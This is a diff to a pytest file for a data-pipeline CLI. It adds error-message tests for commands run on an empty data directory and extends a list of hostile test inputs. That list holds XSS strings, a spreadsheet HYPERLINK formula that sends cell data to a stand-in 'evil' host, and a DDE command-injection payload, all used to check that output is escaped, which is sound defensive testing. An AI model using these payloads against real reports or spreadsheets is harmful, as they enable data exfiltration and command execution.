@@ -25,6 +25,14 @@ from tests.reliability.batch_runs import write_run
 HEADER = "event_id,customer_id,event_time,event_type,value,channel"
 
 
+@pytest.fixture(autouse=True)
+def wide_console(monkeypatch):
+    """No line wrapping: a long path would be cut where a message is matched."""
+    from cli.ui import console
+
+    monkeypatch.setattr(console, "_width", 1000)
+
+
 @pytest.fixture
 def data_dir(tmp_path, monkeypatch):
     monkeypatch.setenv("ENGAGE_DATA_DIR", str(tmp_path / "data"))
@@ -267,6 +275,28 @@ def test_reingesting_the_last_file_is_a_no_op(tmp_path, data_dir):
     assert len(read_quarantine(data_dir / "quarantine.parquet")) == 1
 
 
+# ----------------------------------------------------------------- commands without data
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (("features", "build"), "events not found at"),
+        (("features", "build", "--as-of", "nonsense"), "--as-of: Unknown datetime string"),
+        (("train", "--model", "churn"), "churn: no feature snapshots under"),
+        (("score",), "no feature snapshots under"),
+        (("at-risk",), "no scoring run under"),
+        (("transitions", "--no-post"), "no scoring run under"),
+        (("report",), "events.parquet does not exist; create it with"),
+        (("data", "validate"), "events.parquet does not exist; create it with"),
+    ],
+)
+def test_each_command_on_an_empty_data_dir_says_what_to_run(data_dir, args, message):
+    out = fails(*args)
+    assert out.startswith("error: ") or "error: " in out, out
+    assert message in out, out
+
+
 # ----------------------------------------------------------------- run ids
 
 
@@ -287,7 +317,11 @@ def test_run_ids_never_become_paths(data_dir, bad):
 # ----------------------------------------------------------------- outputs with hostile data
 
 HOSTILE = [
-    {"customer_id": "<script>alert(1)</script>", "reason": "<img src=x onerror=alert(2)>"},
+    {
+        "customer_id": "<script>alert(1)</script>",
+        "reason": "<img src=x onerror=alert(2)>",
+        "segment": "<i>seg</i>",
+    },
     {"customer_id": '=HYPERLINK("http://evil/?"&A1,"x")', "clv": 900.0},
     {"customer_id": "+cmd|' /C calc'!A0", "clv": 800.0},
     {"customer_id": "@SUM(1+1)", "clv": 700.0},
@@ -337,6 +371,7 @@ def test_html_report_escapes_every_user_string(paths):
     assert "<script>alert" not in html and "<img src=x" not in html
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
     assert "&lt;img src=x onerror=alert(2)&gt;" in html
+    assert "<i>seg</i>" not in html and "&lt;i&gt;seg&lt;/i&gt;" in html
 
 
 # ----------------------------------------------------------------- webhooks
